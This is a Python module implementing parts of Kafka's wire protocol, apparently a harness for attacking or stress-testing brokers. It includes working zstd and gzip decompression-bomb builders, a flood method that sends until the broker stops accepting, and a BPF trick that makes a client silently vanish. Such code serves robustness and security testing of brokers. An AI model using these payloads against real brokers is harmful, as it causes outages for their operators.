"""Kafka's protocol, as far as attacks on a broker need it: frames, batches, and a client that can also misbehave."""
import ctypes
import select
import socket
import struct
import zlib


def crc_table():
    table = []
    for i in range(256):
        for _ in range(8):
            i = i >> 1 ^ (0x82F63B78 if i & 1 else 0)
        table.append(i)
    return table


CRC = crc_table()


def crc32c(data):
    c = 0xFFFFFFFF
    for b in data:
        c = c >> 8 ^ CRC[(c ^ b) & 0xFF]
    return c ^ 0xFFFFFFFF


def varint(n):
    n, out = n << 1 if n >= 0 else -n * 2 - 1, b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def record(value, delta=0):
    body = b"\0\0" + varint(delta) + varint(-1) + varint(len(value)) + value + b"\0"
    return varint(len(body)) + body


def batch(payload, count=1, codec=0):
    tail = struct.pack(">hiqqqhii", codec, count - 1, 1000, 1000, -1, -1, -1, count) + payload
    return struct.pack(">qiibI", 0, len(tail) + 9, -1, 2, crc32c(tail)) + tail


def text(s):
    return struct.pack(">h", len(s)) + s.encode()


def request(key, version, body, correlation=1):
    frame = struct.pack(">hhih", key, version, correlation, -1) + body
    return struct.pack(">i", len(frame)) + frame


def api_versions(correlation=1):
    return request(18, 0, b"", correlation)


def produce(parts, acks=1):
    """parts: (topic, partition, batch)."""
    body = struct.pack(">hhii", -1, acks, 5000, len(parts))
    for topic, partition, data in parts:
        body += text(topic) + struct.pack(">iii", 1, partition, len(data)) + data
    return request(0, 3, body)


def produced(answer, topic):
    """Error and offset of the first partition of the first topic."""
    return struct.unpack(">hq", answer[4 + 4 + 2 + len(topic) + 4 + 4:][:10])


def fetch(topic, partitions, wait_ms=0, least=1, offset=0):
    each = b"".join(struct.pack(">iqi", p, offset, 1 << 20) for p in partitions)
    return request(1, 4, struct.pack(">iiiibi", -1, wait_ms, least, 1 << 20, 0, 1) + text(topic)
                   + struct.pack(">i", len(partitions)) + each)


def look_up(topic, partitions, timestamp=1):
    """Offsets by time."""
    return request(2, 1, struct.pack(">ii", -1, 1) + text(topic) + struct.pack(">i", len(partitions))
                   + b"".join(struct.pack(">iq", p, timestamp) for p in partitions))


def metadata(topics):
    """None: all of them."""
    if topics is None:
        return request(3, 1, struct.pack(">i", -1))
    return request(3, 1, struct.pack(">i", len(topics)) + b"".join(text(t) for t in topics))


def create(topic, partitions):
    return request(19, 2, struct.pack(">i", 1) + text(topic) + struct.pack(">ihii", partitions, 1, 0, 0)
                   + struct.pack(">ib", 20000, 0))


def zstd_bomb(n):
    """A frame of RLE blocks: four bytes for each 128 KiB."""
    blocks = n // (128 << 10)
    block = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"\0"
    last = struct.pack("<I", (128 << 10) << 3 | 1 << 1 | 1)[:3] + b"\0"
    return bytes.fromhex("28b52ffd") + b"\0\x50" + block * (blocks - 1) + last


def gzip_bomb(n):
    squeezer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(squeezer.compress(bytes(1 << 20)) for _ in range(n >> 20)) + squeezer.flush()


class Client:
    def __init__(self, bootstrap, timeout=30, small_window=False):
        host, port = bootstrap.rsplit(":", 1)
        self.s = socket.socket()
        if small_window:
            self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        self.s.settimeout(timeout)
        self.s.connect((host, int(port)))
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def receive(self, n):
        data = bytearray()
        while len(data) < n:
            part = self.s.recv(min(n - len(data), 1 << 20))
            if not part:
                raise ConnectionError("closed by the broker")
            data += part
        return bytes(data)

    def answer(self):
        size, = struct.unpack(">i", self.receive(4))
        return self.receive(size)

    def ask(self, frame):
        self.s.sendall(frame)
        return self.answer()

    def pour(self, data):
        """Sends until the broker takes no more; the bytes that went."""
        self.s.setblocking(False)
        sent = 0
        try:
            while sent < len(data):
                sent += self.s.send(data[sent:sent + (1 << 20)])
        except (BlockingIOError, ConnectionError):
            pass
        return sent

    def is_dropped(self):
        """Whether the broker has closed; what it sent before is thrown away."""
        self.s.setblocking(False)
        try:
            while True:
                if not self.s.recv(1 << 16):
                    return True
        except BlockingIOError:
            return False
        except ConnectionError:
            return True

    def hung_up(self):
        """The same without reading anything of it."""
        poll = select.poll()
        poll.register(self.s, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
        return bool(poll.poll(0))

    def vanish(self):
        """From now on nothing reaches it, not even an acknowledgement's cause: as if its machine had lost its power. The
        kernel runs the filter before it looks at what came."""
        drop_all = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0))  # BPF: return 0 bytes
        SO_ATTACH_FILTER = 26
        self.s.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, struct.pack("HL", 1, ctypes.addressof(drop_all)))

    def close(self):
        self.s.close()
